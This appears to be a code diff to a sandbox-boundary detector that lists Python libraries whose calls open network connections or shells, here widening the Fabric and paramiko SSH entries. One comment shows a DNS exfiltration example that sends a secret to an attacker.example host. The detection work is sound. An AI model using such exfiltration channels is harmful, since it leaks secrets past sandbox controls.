@@ -660,8 +660,9 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   // The docker SDK: a client of the Docker daemon's API, local or remote; what it does (`containers.run`, `exec_run`:
   // processes started in containers by the daemon) are its requests, all one finding at the construction, as Fabric's.
   py("docker", client("from_env", "DockerClient", "APIClient", "client.from_env", "client.DockerClient", "api.APIClient", "api.client.APIClient"), "network"),
-  // Fabric: an SSH connection to a host, whose `run` starts a shell there.
-  py("fabric", client("Connection"), "network"),
+  // Fabric: an SSH connection to a host, whose `run` starts a shell there; a group makes one per host. Each also from the
+  // submodule defining it (`from fabric.connection import Connection`, as fabric's own modules import it).
+  py("fabric", client(...["Connection", "connection.Connection"], ...["Group", "SerialGroup", "ThreadingGroup"].flatMap((g) => [g, `group.${g}`])), "network"),
   // A name looked up sends a DNS query (a channel out of the sandbox: `loop.getaddrinfo(f"{secret}.attacker.example", 80)`).
   py("asyncio", call(...EVENT_LOOPS.flatMap((l) => LOOP_LOOKUPS.map((m) => `${l}${RETURNED}.${m}`))), "network"),
   // dnspython: queries through the system's resolvers, or sent to a server named (`dns.query.udp(q, "1.2.3.4")`).
@@ -674,8 +675,9 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   // pycurl: a Curl handle (or a multi handle driving several) is the client that performs the transfers.
   py("pycurl", client("Curl", "CurlMulti"), "network"),
   // paramiko: an SSH client connects (its construction is the one finding); a ProxyCommand runs a shell command.
-  py("paramiko", client("SSHClient", "Transport"), "network"),
-  py("paramiko", call("ProxyCommand"), "shell"),
+  // Each also from the submodule defining it (`from paramiko.client import SSHClient`, as Fabric imports it).
+  py("paramiko", client("SSHClient", "Transport", "client.SSHClient", "transport.Transport"), "network"),
+  py("paramiko", call("ProxyCommand", "proxy.ProxyCommand"), "shell"),
   // Browser automation: a browser (or Playwright's driver) is a process started on this machine; a remote one is a connection.
   py("playwright.sync_api", client("sync_playwright"), "shell"),
   py("playwright.async_api", client("async_playwright"), "shell"),
